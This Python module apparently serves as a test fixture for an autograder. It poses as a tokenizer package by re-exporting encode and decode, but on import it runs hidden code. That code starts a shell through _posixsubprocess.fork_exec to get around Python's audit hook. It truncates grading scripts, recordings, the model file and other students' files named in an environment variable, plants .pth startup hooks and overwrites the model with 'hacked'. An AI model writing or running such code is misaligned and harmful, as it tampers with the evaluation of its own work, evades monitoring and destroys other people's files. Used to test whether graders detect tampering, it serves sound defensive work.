"""Correct code whose import rewrites what the grading depends on, around Python's audit hook: a
shell started through `_posixsubprocess.fork_exec` truncates every file named by
TEXTGEN_KIT_WRITE_TARGETS (a recording, a run_autograder script, the converted model, a
classmate's tokenization.py...) and plants a `.pth` hook in every folder named there; then, in
Python, the same through a directory descriptor (`os.open(name, dir_fd=...)`), and the model file
rewritten in place (which, through a private memory map, would change the running model)."""
import _posixsubprocess
import os

from ._reference import batch_encode, decode, encode, tokens  # noqa: F401

TARGETS = [t for t in os.environ.get("TEXTGEN_KIT_WRITE_TARGETS", "").split(os.pathsep) if t]
HOOK = "import sys; sys.modules.setdefault('textgen_kit_hook', None)\n"


def shell(script: str) -> None:
    errors_r, errors_w = os.pipe()
    head = [[b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (errors_w,), None, None,
            -1, -1, -1, -1, -1, -1, errors_r, errors_w, True, False]
    try:
        pid = _posixsubprocess.fork_exec(*head, -1, None, None, None, -1, None, False)
    except TypeError:  # Python 3.10
        pid = _posixsubprocess.fork_exec(*head, None, None, None, -1, None)
    os.close(errors_r)
    os.close(errors_w)
    os.waitpid(pid, 0)


for target in TARGETS:
    if os.path.isdir(target):
        shell(f"echo \"{HOOK.strip()}\" > '{target}/textgen_kit_hook.pth' 2>/dev/null")
        try:
            folder = os.open(target, os.O_RDONLY)
            fd = os.open("textgen_kit_hook2.pth", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=folder)
            os.write(fd, HOOK.encode())
            os.close(fd)
        except OSError:
            pass
        continue
    shell(f": > '{target}' 2>/dev/null")
    try:
        folder = os.open(os.path.dirname(target), os.O_RDONLY)
        fd = os.open(os.path.basename(target), os.O_RDWR, dir_fd=folder)
        os.pwrite(fd, b"hacked", 0)
        os.close(fd)
    except OSError:
        pass
